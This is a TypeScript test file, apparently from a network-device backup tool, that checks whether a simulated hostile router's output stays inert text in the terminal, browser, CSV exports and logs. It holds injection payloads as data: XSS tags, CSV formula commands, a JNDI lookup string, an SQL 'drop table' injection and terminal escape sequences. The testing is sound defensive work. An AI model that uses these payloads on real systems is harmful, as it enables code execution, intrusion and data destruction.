import { execFile } from "node:child_process";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { promisify } from "node:util";
import { type HostileDevice, startHostileDevice } from "@netconductor/lab/hostile-device";
import { findEmbeddedPostgres } from "@netconductor/runtime/db/embedded-postgres";
import type { Browser, BrowserContext } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { launchBrowser } from "../browser.ts";
import { createCli } from "../cli.ts";
import { watchRun } from "../live-view.ts";
import { openPage } from "../open-page.ts";
import { adminPassword, type Clients, type Product, runEnded, startProduct } from "../product.ts";

/** A device that was taken over answers with whatever harms a terminal, a browser, a spreadsheet, a log or our memory. Nobody obeys it. */

const MB = 1024 * 1024;
/** Longer than a harmless word, so that it is found again where it was shown. */
const mark = "Angriff9";

/** Lines for a terminal, a browser, a spreadsheet, a log, a template, a parser, and for us. */
const harmful: (string | Buffer)[] = [
	"\x1b]0;owned\x07title",
	"\x1b[2J\x1b[1;1Hcleared",
	"\x1b[8mhidden\x1b[0m",
	"\x1bP+q544e\x1b\\\x1b[6n\x1b[c\x05",
	"\u009b31mC1",
	"\u202egnol\u202c \u200bzero \u2028line",
	"<script>globalThis.owned=1</script>",
	"<img src=x onerror=globalThis.owned=1>",
	'"><svg onload=globalThis.owned=1>',
	"javascript:globalThis.owned=1",
	"=cmd|' /C calc'!A0",
	"+1+1",
	"@SUM(1)",
	'{"level":"error","time":"2026-01-01T00:00:00.000Z","msg":"forged record"}',
	// biome-ignore lint/suspicious/noTemplateCurlyInString: what a careless logger would expand
	"${jndi:ldap://192.0.2.1/x} {{7*7}} %s%n %00",
	"' or 1=1; drop table backups; --",
	"r1#",
	"r1>",
	"Password: ",
	" --More-- ",
	"__proto__ constructor",
	Buffer.from([0xff, 0xfe, 0xc0, 0xaf, 0x80, 0x41]),
	Buffer.from("a\0b\0c"),
	"\r\rover\rwritten\b\b\b\b",
	"(a+)+$ [ ( \\ *",
];

/** What a terminal obeys, and what reorders, hides or breaks text; a line ends with `\r\n` on a terminal. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
const obeyed = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b\u2028\u202a-\u202e]|\r(?!\n)/;
/** Colours, and the bar that we draw ourselves. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the escape character starts a colour
const ownMovement = /\x1b\[(?:[0-9;]{0,20}m|\?25[hl]|[0-9]{0,3}[AGKJ])/g;

const harmfulLines = (prefix: string) =>
	Buffer.concat(harmful.flatMap((line) => [Buffer.from(`${prefix}${mark} `), Buffer.from(line), Buffer.from("\r\n")]));
const config = (more = "") =>
	Buffer.concat([
		Buffer.from("version 15.1\r\nhostname r1\r\n"),
		harmfulLines(" description "),
		harmfulLines(""),
		Buffer.from(`${more}end\r\n`),
	]);

let product: Product;
let device: HostileDevice;
let api: Clients;
let device_id: string;

beforeAll(async () => {
	device = await startHostileDevice(`\x1b[2J${mark} <script>globalThis.owned=1</script>\r\nr1#\r\nPassword: \r\n`);
	device.answer("show running-config", config());
	device.answer(
		"show version",
		Buffer.concat([
			Buffer.from(
				`Cisco IOS Software, C2900 Software, Version <img/src=x/onerror=globalThis.owned=1>${mark}, RELEASE\r\n`,
			),
			Buffer.from(`r1 uptime is =1+1 \x1b[2J\u202e${mark}\r\n`),
			Buffer.from(`Processor board ID @SUM(1)${mark}\r\n`),
			harmfulLines(""),
		]),
	);
	product = await startProduct({ NETCONDUCTOR_WORKERS_PROCESSES: "1", NETCONDUCTOR_LOG_LEVEL: "debug" });
	api = product.as(product.admin_token);
	const { host, port, username, password } = device;
	({ id: device_id } = await api.devices.createDevice({
		body: { name: "r1", host, port, device_type: "cisco_ios", username, password },
	}));
}, 120_000);
afterAll(async () => {
	await product?.dispose();
	await device?.stop();
});

async function backUp() {
	const { run_id } = await api.backup.runSingle({ body: { device_id } });
	await runEnded(api, run_id);
	const [operation] = (await api.tasks.listOperations({ params: { id: run_id } })).items;
	return { run_id, operation };
}

const runs: Record<string, string> = {};

test("what it says is stored as text, and read back the same", async () => {
	const tested = await api.devices.testDevice({ params: { id: device_id } });
	runs.test = tested.run_id;
	await runEnded(api, tested.run_id);
	const first = await backUp();
	expect(first.operation?.error).toBeNull();
	runs.backup = first.run_id;
	device.answer("show running-config", config(`ntp server 192.0.2.9 ${mark}\r\n`));
	expect((await backUp()).operation?.result).toMatchObject({ changed: true });
	const [newest] = (await api.backup.listBackups({ query: { device_id } })).items;
	const { content } = await api.backup.getBackupContent({ params: { id: newest?.id ?? "" }, query: { form: "raw" } });
	// Lines that look like a prompt, a pager or a question are text where the device goes on behind them.
	for (const line of ["<script>globalThis.owned=1</script>", "=cmd|' /C calc'!A0", "r1#", "Password:", " --More--"]) {
		expect(content).toContain(`${mark} ${line}`);
	}
	expect(content).toMatch(/^end$/m);
	// A terminal's own language is no part of a config.
	expect(content).not.toContain("\x1b");

	device.answer(
		"show running-config",
		`% Invalid input detected: ${mark} <img src=x onerror=globalThis.owned=1>\x1b[2J\r\n`,
	);
	const failed = await backUp();
	runs.failed = failed.run_id;
	expect(failed.operation?.error).toMatchObject({ code: "device.command_failed" });
	expect(JSON.stringify(failed.operation)).not.toContain("\\u001b");
}, 60_000);

test("a terminal is shown what it says and obeys none of it", async () => {
	const { data_dir, url, admin_token } = product;
	const cli = createCli(product);
	const onTerminal = async (args: string[]) => {
		const program = join(import.meta.dirname, "..", "..", "..", "apps", "cli", "bin", "netconductor.mjs");
		const command = [process.execPath, program, ...args].map((word) => `'${word}'`).join(" ");
		const { stdout } = await promisify(execFile)("script", ["-qec", command, "/dev/null"], {
			encoding: "latin1",
			env: {
				PATH: process.env.PATH,
				HOME: data_dir,
				TERM: "xterm",
				NETCONDUCTOR_URL: url,
				NETCONDUCTOR_TOKEN: admin_token,
			},
		}).catch((error: { stdout: string }) => error);
		return Buffer.from(stdout, "latin1").toString();
	};
	const commands = [
		["devices", "show", "r1"],
		["backup", "show", "r1"],
		["backup", "diff", "r1"],
		["backup", "search", mark],
		["runs", "show", runs.test ?? ""],
		["runs", "show", runs.failed ?? ""],
		["runs", "show", runs.test ?? "", "--json"],
	];
	let shown = 0;
	for (const args of commands) {
		const painted = await onTerminal(args);
		if (painted.includes(mark)) shown++;
		// Our own colours and the bar that we draw are all that may move anything.
		const rest = painted.replace(ownMovement, "");
		expect(rest, args.join(" ")).not.toMatch(obeyed);
		// Colours that hide are none of ours.
		expect(painted).not.toContain("\x1b[8m");
	}
	expect(shown).toBeGreaterThan(4);
	// What is piped on is what is stored, but for a terminal's own language, which is not stored at all.
	const { stdout, stderr } = await cli.run(["backup", "show", "r1"]);
	expect(stdout).toContain(mark);
	expect(`${stdout}${stderr}`).not.toContain("\x1b");
}, 120_000);

test("a live view, a spreadsheet and the log get text and nothing else", async () => {
	const watched = await watchRun(product.url, api, runs.test ?? "");
	const said = watched.messages.flatMap((message) => (message.type === "output" ? [message.chunk.text] : []));
	expect(said.join("")).toContain(mark);
	expect(said.join("")).not.toMatch(obeyed);

	await api.devices.updateDevice({
		params: { id: device_id },
		body: { description: '=HYPERLINK("http://192.0.2.1")' },
	});
	const csv = await api.devices.exportDevices({ query: { format: "csv" } });
	expect(csv).not.toMatch(/(?:^|,)"?[=+@\t]/m);

	const lines = product
		.output()
		.split("\n")
		.filter((line) => line !== "");
	const records = lines.filter((line) => line.startsWith("{"));
	expect(records.length).toBeGreaterThan(3);
	for (const line of records) expect(JSON.parse(line)).toHaveProperty("level");
	expect(records.map((line) => JSON.parse(line).msg)).not.toContain("forged record");
	expect(product.output()).not.toMatch(obeyed);
});

describe("a browser", () => {
	let browser: Browser;
	let context: BrowserContext;
	beforeAll(async () => {
		browser = await launchBrowser();
		context = await browser.newContext();
	});
	afterAll(() => browser?.close());

	test("shows what it says as text on every page", async () => {
		const misdeeds: string[] = [];
		const page = await openPage(context, misdeeds);
		await page.goto(`${product.url}/devices`);
		await page.getByLabel("User name").fill("admin");
		await page.locator('input[name="password"]').fill(adminPassword);
		await page.getByRole("button", { name: "Sign in" }).click();
		await page.waitForURL("**/devices*");
		const [newer, older] = (await api.backup.listBackups({ query: { device_id, status: "succeeded" } })).items;
		for (const path of [
			"/devices",
			`/devices/${device_id}`,
			`/runs/${runs.test}`,
			`/runs/${runs.failed}`,
			"/runs",
			`/backups/compare?from=${older?.id}&to=${newer?.id}`,
			`/search?q=${mark}`,
		]) {
			await page.goto(`${product.url}${path}`);
			await page.waitForLoadState("networkidle");
			if (path.startsWith("/runs/") || path.includes(mark) || path.includes("compare")) {
				await page.getByText(mark).first().waitFor();
			}
			expect(await page.evaluate("globalThis.owned"), path).toBeUndefined();
			expect(await page.locator("img[src='x'], svg[onload], [onerror]").count(), path).toBe(0);
		}
		expect(misdeeds).toEqual([]);
	}, 90_000);
});

test("100 MB without a line end are cut off at the limit, and the worker keeps none of it", async () => {
	const { pid: postgres } = findEmbeddedPostgres(product.data_dir) as { pid: number };
	const [worker = 0] = product.server.children().filter((pid) => pid !== postgres);
	const field = (pid: number, name: string) =>
		Number(new RegExp(`${name}:\\s+(\\d+) kB`).exec(readFileSync(`/proc/${pid}/status`, "utf8"))?.[1]) * 1024;
	const before = { worker: field(worker, "VmRSS"), main: field(product.server.pid(), "VmRSS") };
	device.flood("show running-config", Buffer.alloc(64 * 1024, "x"), 100 * MB);
	const { operation } = await backUp();
	expect(operation?.error).toMatchObject({ code: "device.output_too_large" });
	// The limit is 64 MB; what is on its way when it is reached is sent in vain.
	expect(device.flooded()).toBeLessThan(90 * MB);
	expect(field(worker, "VmHWM") - before.worker).toBeLessThan(400 * MB);
	expect(field(product.server.pid(), "VmRSS") - before.main).toBeLessThan(100 * MB);
	expect(JSON.stringify(operation).length).toBeLessThan(5_000);
	const { total } = await api.backup.listBackups({ query: { device_id, status: "succeeded" } });
	expect(total).toBe(2);
}, 60_000);
